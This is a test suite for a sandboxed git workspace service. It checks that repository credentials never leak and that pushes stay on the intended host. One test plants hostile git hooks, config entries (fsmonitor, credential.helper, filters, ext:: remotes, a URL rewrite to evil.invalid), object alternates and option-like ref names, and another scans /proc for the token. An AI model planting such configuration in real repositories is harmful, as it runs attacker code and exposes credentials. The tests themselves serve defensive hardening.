/** A private repository over real HTTP: cloned, inspected, pushed, with agents that mean harm. */
import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { FakeClock } from "#base/clock.ts";
import { createIds } from "#base/ids.ts";
import { createBubblewrap } from "#execution/sandboxes/bubblewrap/bubblewrap.ts";
import { collectText } from "#execution/sandboxes/collect-text.ts";
import { createLocal } from "#execution/sandboxes/local/local.ts";
import { DEFAULT_LIMITS, type SandboxProvider } from "#execution/sandboxes/sandbox.ts";
import { storedRepositoryAddress } from "#protocol/names/repository-address.ts";
import type { RepositoryAccess } from "#protocol/workspaces.ts";
import { type GitServer, startGitServer } from "#test/git-server/git-server.ts";
import { bubblewrapFile } from "#test/services/bubblewrap.ts";
import type { Workspace, Workspaces } from "../workspace.ts";
import { createWorkspaces } from "../workspaces.ts";

const TOKEN = "tok-Aa0/9+zZ_secret-0123456789";
const top = mkdtempSync(join(tmpdir(), "muster-private-"));
const quiet = { debug() {}, info() {}, warn() {}, error() {}, child: () => quiet } as never;
const opened: Workspaces[] = [];
let server: GitServer;
let count = 0;

beforeAll(async () => {
  server = await startGitServer(TOKEN);
});
afterAll(async () => {
  for (const workspaces of opened) await workspaces.close();
  await server.close();
  rmSync(top, { recursive: true, force: true });
});

function accessTo(url: string, password = TOKEN): RepositoryAccess {
  return {
    fullName: "acme/app",
    provider: "github",
    url,
    defaultBranch: null,
    credential: { secret: "REPO_TOKEN", username: "x-access-token", password },
    apiUrl: null,
  };
}

async function start(provider: SandboxProvider) {
  const folder = join(top, `runner-${count++}`);
  mkdirSync(folder);
  const workspaces = await createWorkspaces({
    folder,
    sandboxProvider: provider,
    limits: DEFAULT_LIMITS,
    allowedHosts: [],
    clock: new FakeClock(),
    ids: createIds(),
    log: quiet,
  });
  opened.push(workspaces);
  return { workspaces, folder };
}

async function openOn(
  provider: SandboxProvider,
  name: string,
  identity = { name: "Ada L", email: "ada@example.com" },
) {
  const repo = server.create(name);
  const { workspaces, folder } = await start(provider);
  const access = accessTo(repo);
  const workspace = await workspaces.open({
    sessionId: "ses_1",
    repository: storedRepositoryAddress(repo),
    mayUsePath: false,
    branch: null,
    projectDir: null,
    access: async () => access,
    identity,
  });
  const publish = (branch: string | null = null, by: RepositoryAccess | null = access) => {
    if (!workspace.repository) throw new Error("no clone");
    const { signal } = new AbortController();
    const order = { repository: storedRepositoryAddress(repo), mayUsePath: false };
    return workspace.repository.publish({ ...order, access: by, branch, signal });
  };
  return { repo, workspace, workspaces, folder, publish };
}

async function sh(workspace: Workspace, script: string) {
  const running = workspace.sandbox.run({ argv: ["/bin/bash", "-c", script] });
  running.stdin.end();
  const [stdout, stderr, end] = await Promise.all([
    collectText(running.stdout),
    collectText(running.stderr),
    running.ended,
  ]);
  return { stdout, stderr, exitCode: end.exitCode };
}

const commit = (workspace: Workspace, file = "work.txt") =>
  sh(
    workspace,
    `echo work > ${file} && git add -A && git commit -qm "add ${file}" && git rev-parse HEAD`,
  );

/** Plain and encoded forms of a secret. */
function forms(secret: string): string[] {
  return [
    secret,
    encodeURIComponent(secret),
    Buffer.from(secret).toString("base64").slice(0, -4),
    Buffer.from(`x-access-token:${secret}`).toString("base64"),
  ];
}

function filesWith(folder: string, words: readonly string[]): string {
  const patterns = words.flatMap((word) => ["-e", word]);
  try {
    return execFileSync("grep", ["-rlaF", ...patterns, folder], { encoding: "utf8" });
  } catch {
    return "";
  }
}

function suite(name: string, provider: () => SandboxProvider): void {
  describe(name, () => {
    it("clones, commits as the person, pushes, and says where it stands", async () => {
      const { workspace, folder, publish } = await openOn(provider(), `acme/${name}`);
      expect((await sh(workspace, "cat README.md")).stdout).toBe("hello\n");
      await sh(workspace, "echo more >> README.md; echo new > untracked");
      const { stdout } = await commit(workspace, "work.txt");
      await sh(workspace, "echo again >> README.md");
      const state = await workspace.repository?.state(null);
      expect(state).toMatchObject({
        branch: "muster/ses_1",
        head: { id: stdout.trim(), subject: "add work.txt" },
        base: { branch: "main", ahead: 1, behind: 0 },
        dirty: [" M README.md"],
        unpushed: [{ subject: "add work.txt" }],
      });
      expect(await publish()).toMatchObject({
        branch: "muster/ses_1",
        commit: stdout.trim(),
        isNew: true,
        defaultBranch: "main",
      });
      expect(
        server.git(`acme/${name}`, "log", "-1", "--format=%an <%ae>|%cn <%ce>", "muster/ses_1"),
      ).toBe("Ada L <ada@example.com>|Ada L <ada@example.com>\n");
      expect(await workspace.repository?.state(null)).toMatchObject({ unpushed: [] });
      expect(await publish()).toMatchObject({ isNew: false });
      await commit(workspace, "second.txt");
      expect(await publish()).toMatchObject({ isNew: true });
      expect(filesWith(folder, forms(TOKEN))).toBe("");
      expect(existsSync(join(workspace.folder, "..", "publish"))).toBe(false);
    });

    it("says which step failed, and never the credential", async () => {
      const repo = server.create(`acme/wrong-${name}`);
      const { workspaces, folder } = await start(provider());
      const wrong = "wrong-0123456789-token";
      const open = (access: RepositoryAccess | null, branch: string | null = null) =>
        workspaces.open({
          sessionId: "ses_1",
          repository: storedRepositoryAddress(repo),
          mayUsePath: false,
          branch,
          projectDir: null,
          access: async () => access,
        });
      const failure = await open(accessTo(repo, wrong)).catch((error: Error) => error);
      expect(failure).toMatchObject({ code: "workspace_clone_failed" });
      expect(String(failure)).toMatch(/fetching it from .* failed: .*Authentication failed/);
      expect(String(failure)).toContain("REPO_TOKEN");
      for (const form of forms(wrong)) expect(String(failure)).not.toContain(form);
      await expect(open(accessTo(`${server.url}/acme/none.git`))).rejects.toThrow(/not found/);
      await expect(open(accessTo(repo), "nowhere")).rejects.toThrow(
        /checking it out failed.*nowhere/,
      );
      expect(filesWith(folder, [...forms(wrong), ...forms(TOKEN)])).toBe("");
    });

    it("sends the credential to its own host alone", async () => {
      const repo = server.create(`acme/moved-${name}`);
      const other = await startGitServer("another password");
      const { workspaces } = await start(provider());
      server.redirectTo = other.url;
      try {
        const repository = storedRepositoryAddress(repo);
        const place = { repository, mayUsePath: false, branch: null, projectDir: null };
        const wish = { sessionId: "ses_1", ...place };
        await expect(
          workspaces.open({ ...wish, access: async () => accessTo(repo) }),
        ).rejects.toThrow(/moved/);
      } finally {
        server.redirectTo = null;
      }
      expect(other.requests).toEqual([]);
      await other.close();
      const plain = accessTo("http://git.example.com/acme/app.git");
      await expect(
        workspaces.open({
          sessionId: "ses_2",
          repository: storedRepositoryAddress(plain.url),
          mayUsePath: false,
          branch: null,
          projectDir: null,
          access: async () => plain,
        }),
      ).rejects.toMatchObject({ code: "credential_needs_https" });
    });

    it("refuses the default branch, odd names, and to overwrite", async () => {
      const { workspace, publish } = await openOn(provider(), `acme/branches-${name}`);
      await commit(workspace);
      await sh(workspace, "git branch -f main HEAD; git branch Main 2>/dev/null");
      for (const branch of ["main", "MAIN"])
        await expect(publish(branch)).rejects.toThrow(/default branch/);
      for (const odd of [
        "--force",
        "-f",
        "refs/heads/main",
        "HEAD",
        "+main",
        "a:main",
        "a..b",
        "x.lock",
        "/x",
        ".x",
      ])
        await expect(publish(odd)).rejects.toThrow(/not a valid branch name/);
      await expect(publish("nothing-here")).rejects.toThrow(/no branch nothing-here/);
      expect(server.git(`acme/branches-${name}`, "log", "-1", "--format=%s", "main")).toBe(
        "first\n",
      );
      await publish();
      await sh(workspace, "git commit -q --amend -m other");
      await expect(publish()).rejects.toThrow(/nothing is overwritten/);
      await sh(workspace, "git checkout -q -b fresh main~1");
      await expect(publish("fresh")).rejects.toThrow(/nothing to push/);
    });

    it("refuses what may be the default branch where the repository names none", async () => {
      const fullName = `acme/headless-${name}`;
      const { workspace, publish, repo } = await openOn(provider(), fullName);
      await commit(workspace);
      await sh(workspace, "git branch -f main HEAD; git branch master; git branch other");
      // The head points to no branch any more.
      server.git(fullName, "update-ref", "--no-deref", "HEAD", "refs/heads/main");
      for (const branch of ["main", "master", "MASTER"])
        await expect(publish(branch)).rejects.toThrow(/does not name its default branch/);
      await expect(publish("main", { ...accessTo(repo), defaultBranch: "main" })).rejects.toThrow(
        /is the repository's default branch/,
      );
      // Without a commit the repository names none either.
      server.git(fullName, "symbolic-ref", "HEAD", "refs/heads/none");
      await expect(publish("main")).rejects.toThrow(/does not name its default/);
      expect(server.git(fullName, "log", "-1", "--format=%s", "main")).toBe("first\n");
      expect(await publish("other")).toMatchObject({ isNew: true, defaultBranch: null });
    });

    it("pushes to where it was cloned from, with what opens it, or not at all", async () => {
      const { workspace, publish } = await openOn(provider(), `acme/where-${name}`);
      const elsewhere = server.create(`acme/elsewhere-${name}`);
      await commit(workspace);
      await expect(publish(null, null)).rejects.toThrow(/does not have it/);
      const access = accessTo(elsewhere);
      await expect(publish(null, { ...access, credential: null })).rejects.toThrow(/no credential/);
      const { signal } = new AbortController();
      const repository = storedRepositoryAddress(elsewhere);
      const order = { repository, mayUsePath: false, access, branch: null, signal };
      await expect(workspace.repository?.publish(order)).rejects.toThrow(/a different repository/);
    });

    it("runs nothing and gives nothing away, whatever an agent put into .git", async () => {
      const { workspace, folder, publish } = await openOn(provider(), `acme/hostile-${name}`);
      const { stdout } = await commit(workspace);
      const mark = join(workspace.folder, "RAN");
      const evil = `touch ${workspace.sandbox.workspacePath}/RAN; env > ${workspace.sandbox.workspacePath}/RAN`;
      await sh(
        workspace,
        `cat > evil.sh <<'X'\n#!/bin/sh\n${evil}\nX
chmod +x evil.sh; p=$PWD/evil.sh
mkdir -p .git/hooks; for h in pre-push post-checkout reference-transaction post-index-change update pre-receive; do cp evil.sh .git/hooks/$h; done
git config core.hooksPath "$PWD/.git/hooks"
git config core.fsmonitor "$p"; git config core.sshCommand "$p"; git config core.pager "$p"
git config credential.helper "!$p"; git config core.askPass "$p"
git config url."https://evil.invalid/".insteadOf "${server.url}/"
git config url."ext::$p ".pushInsteadOf "${server.url}/"
git config remote.origin.url "ext::$p"; git config remote.origin.promisor true; git config extensions.partialClone origin
git config remote.origin.uploadpack "$p"; git config uploadpack.packObjectsHook "$p"
git config filter.x.clean "$p"; git config filter.x.process "$p"; git config filter.x.required true; git config diff.external "$p"; git config gpg.program "$p"; git config log.showSignature true
echo '* filter=x diff=x' > .gitattributes; touch README.md
echo /etc >> .git/objects/info/alternates; echo "${folder}/mirrors" >> .git/objects/info/alternates
git update-ref -- 'refs/heads/--upload-pack=x' HEAD; rm -f RAN`,
      );
      rmSync(mark, { force: true });
      const before = server.requests.length;
      expect(await workspace.repository?.state(null)).toMatchObject({ branch: "muster/ses_1" });
      expect(await publish()).toMatchObject({ commit: stdout.trim(), isNew: true });
      expect(existsSync(mark)).toBe(false);
      const asked = server.requests.slice(before).map(({ path }) => path.split("?")[0]);
      expect(new Set(asked.map((path) => path?.split("/").slice(0, 3).join("/")))).toEqual(
        new Set([`/acme/hostile-${name}.git`]),
      );
      expect(filesWith(folder, forms(TOKEN))).toBe("");
      // The planted configuration does work, for a git that trusts it.
      await sh(workspace, "git status");
      expect(existsSync(mark)).toBe(true);
    });

    it("does not read a .git that is a link", async () => {
      const { workspace, publish } = await openOn(provider(), `acme/link-${name}`);
      await commit(workspace);
      await sh(workspace, "mv .git elsewhere; ln -s elsewhere .git");
      await expect(publish()).rejects.toThrow(/folder was replaced/);
      await expect(workspace.repository?.state(null)).rejects.toThrow(/folder was replaced/);
      await sh(workspace, "rm .git; echo 'gitdir: elsewhere' > .git");
      await expect(publish()).rejects.toThrow(/folder was replaced/);
    });

    it("refuses objects that are broken", async () => {
      const { workspace, publish } = await openOn(provider(), `acme/broken-${name}`);
      await commit(workspace);
      await sh(
        workspace,
        `o=$(git rev-parse HEAD:work.txt); f=.git/objects/\${o:0:2}/\${o:2}; chmod u+w $f; echo junk > $f`,
      );
      await expect(publish()).rejects.toThrow(/could not be read from the workspace/);
    });

    it("keeps the credential out of command lines and environments while git has it", async () => {
      const { workspace, publish } = await openOn(provider(), `acme/proc-${name}`);
      const seen: string[] = [];
      let isOver = false;
      const watch = (async () => {
        while (!isOver) {
          const { stdout } = await sh(
            workspace,
            "cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr '\\0' '\\n' | grep -a 'tok-[A]a0'; true",
          );
          seen.push(stdout);
        }
      })();
      try {
        for (const file of ["a", "b", "c"]) {
          await commit(workspace, file);
          await publish();
        }
      } finally {
        isOver = true;
        await watch;
      }
      expect(seen.length).toBeGreaterThan(0);
      expect(seen.join("")).toBe("");
    });

    it("pushes to a repository of this machine", async () => {
      const repo = join(top, `local-${name}`);
      execFileSync("git", ["clone", "-q", join(server.folder, `acme/${name}.git`), repo]);
      const { workspaces } = await start(provider());
      const workspace = await workspaces.open({
        sessionId: "ses_1",
        repository: { kind: "path", path: repo },
        mayUsePath: true,
        branch: null,
        projectDir: null,
        identity: { name: "Ada", email: "a@b.example" },
      });
      const { stdout } = await commit(workspace);
      const { signal } = new AbortController();
      const order = { repository: { kind: "path", path: repo }, access: null, signal } as const;
      const publish = (branch: string | null, mayUsePath = true) =>
        workspace.repository?.publish({ ...order, mayUsePath, branch });
      await expect(publish(null, false)).rejects.toMatchObject({ code: "folder_not_allowed" });
      expect(await publish(null)).toMatchObject({ isNew: true, commit: stdout.trim() });
      expect(
        execFileSync("git", ["-C", repo, "rev-parse", "muster/ses_1"], { encoding: "utf8" }),
      ).toBe(stdout);
      await expect(publish("main")).rejects.toThrow(/default branch/);
    });
  });
}

const PATH = "/usr/local/bin:/usr/bin:/bin";
suite("local", () => createLocal({ path: PATH }));
if (bubblewrapFile !== undefined)
  suite("bubblewrap", () => createBubblewrap({ folder: join(top, "bwrap"), path: PATH }));
